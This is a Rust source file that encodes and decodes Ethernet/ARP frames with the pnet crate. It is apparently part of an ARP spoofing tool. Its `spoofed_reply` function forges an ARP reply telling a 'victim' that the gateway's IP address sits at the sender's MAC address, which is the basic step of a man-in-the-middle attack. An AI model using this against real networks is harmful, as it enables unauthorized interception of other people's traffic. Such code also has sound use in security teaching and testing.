//! Ethernet + ARP frame, 42 bytes on the wire.
//!
//! Frames are written and read through pnet's packet accessors over a plain
//! byte buffer, so every multi-byte field lands in network byte order
//! without relying on struct layout.

use pnet::packet::arp::{
    ArpHardwareType, ArpHardwareTypes, ArpOperation, ArpOperations, ArpPacket, MutableArpPacket,
};
use pnet::packet::ethernet::{EtherType, EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::packet::{MutablePacket, Packet};
use pnet::util::MacAddr;
use std::net::Ipv4Addr;

use super::address::{BROADCAST_MAC, IPV4_LEN, MAC_LEN, UNKNOWN_MAC};

pub const ETHERNET_HEADER_LEN: usize = 14;
pub const ARP_HEADER_LEN: usize = 28;
pub const FRAME_LEN: usize = ETHERNET_HEADER_LEN + ARP_HEADER_LEN;

/// Decoded view of one Ethernet frame carrying an ARP header.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct EthArpFrame {
    pub destination: MacAddr,
    pub source: MacAddr,
    pub ethertype: EtherType,
    pub hardware_type: ArpHardwareType,
    pub protocol_type: EtherType,
    pub hw_addr_len: u8,
    pub proto_addr_len: u8,
    pub operation: ArpOperation,
    pub sender_hw_addr: MacAddr,
    pub sender_proto_addr: Ipv4Addr,
    pub target_hw_addr: MacAddr,
    pub target_proto_addr: Ipv4Addr,
}

impl EthArpFrame {
    fn ethernet_ipv4(
        destination: MacAddr,
        source: MacAddr,
        operation: ArpOperation,
        sender: (MacAddr, Ipv4Addr),
        target: (MacAddr, Ipv4Addr),
    ) -> Self {
        EthArpFrame {
            destination,
            source,
            ethertype: EtherTypes::Arp,
            hardware_type: ArpHardwareTypes::Ethernet,
            protocol_type: EtherTypes::Ipv4,
            hw_addr_len: MAC_LEN,
            proto_addr_len: IPV4_LEN,
            operation,
            sender_hw_addr: sender.0,
            sender_proto_addr: sender.1,
            target_hw_addr: target.0,
            target_proto_addr: target.1,
        }
    }

    /// Broadcast "who has `target_ip`" from our own addresses.
    pub fn request(my_mac: MacAddr, my_ip: Ipv4Addr, target_ip: Ipv4Addr) -> Self {
        Self::ethernet_ipv4(
            BROADCAST_MAC,
            my_mac,
            ArpOperations::Request,
            (my_mac, my_ip),
            (UNKNOWN_MAC, target_ip),
        )
    }

    /// Unicast reply to the victim announcing `gateway_ip` at `my_mac`.
    pub fn spoofed_reply(
        my_mac: MacAddr,
        gateway_ip: Ipv4Addr,
        target_mac: MacAddr,
        target_ip: Ipv4Addr,
    ) -> Self {
        Self::ethernet_ipv4(
            target_mac,
            my_mac,
            ArpOperations::Reply,
            (my_mac, gateway_ip),
            (target_mac, target_ip),
        )
    }

    pub fn is_reply(&self) -> bool {
        self.operation == ArpOperations::Reply
    }

    pub fn to_bytes(&self) -> [u8; FRAME_LEN] {
        let mut buffer = [0u8; FRAME_LEN];
        // Both constructors only fail on a short buffer and FRAME_LEN covers
        // both headers.
        if let Some(mut ethernet) = MutableEthernetPacket::new(&mut buffer) {
            ethernet.set_destination(self.destination);
            ethernet.set_source(self.source);
            ethernet.set_ethertype(self.ethertype);
            if let Some(mut arp) = MutableArpPacket::new(ethernet.payload_mut()) {
                arp.set_hardware_type(self.hardware_type);
                arp.set_protocol_type(self.protocol_type);
                arp.set_hw_addr_len(self.hw_addr_len);
                arp.set_proto_addr_len(self.proto_addr_len);
                arp.set_operation(self.operation);
                arp.set_sender_hw_addr(self.sender_hw_addr);
                arp.set_sender_proto_addr(self.sender_proto_addr);
                arp.set_target_hw_addr(self.target_hw_addr);
                arp.set_target_proto_addr(self.target_proto_addr);
            }
        }
        buffer
    }

    /// Decodes `bytes` if it is an ARP-typed Ethernet frame long enough to
    /// hold a full ARP header. Anything else yields `None`.
    pub fn parse(bytes: &[u8]) -> Option<Self> {
        let ethernet = EthernetPacket::new(bytes)?;
        if ethernet.get_ethertype() != EtherTypes::Arp {
            return None;
        }
        let arp = ArpPacket::new(ethernet.payload())?;

        Some(EthArpFrame {
            destination: ethernet.get_destination(),
            source: ethernet.get_source(),
            ethertype: ethernet.get_ethertype(),
            hardware_type: arp.get_hardware_type(),
            protocol_type: arp.get_protocol_type(),
            hw_addr_len: arp.get_hw_addr_len(),
            proto_addr_len: arp.get_proto_addr_len(),
            operation: arp.get_operation(),
            sender_hw_addr: arp.get_sender_hw_addr(),
            sender_proto_addr: arp.get_sender_proto_addr(),
            target_hw_addr: arp.get_target_hw_addr(),
            target_proto_addr: arp.get_target_proto_addr(),
        })
    }
}
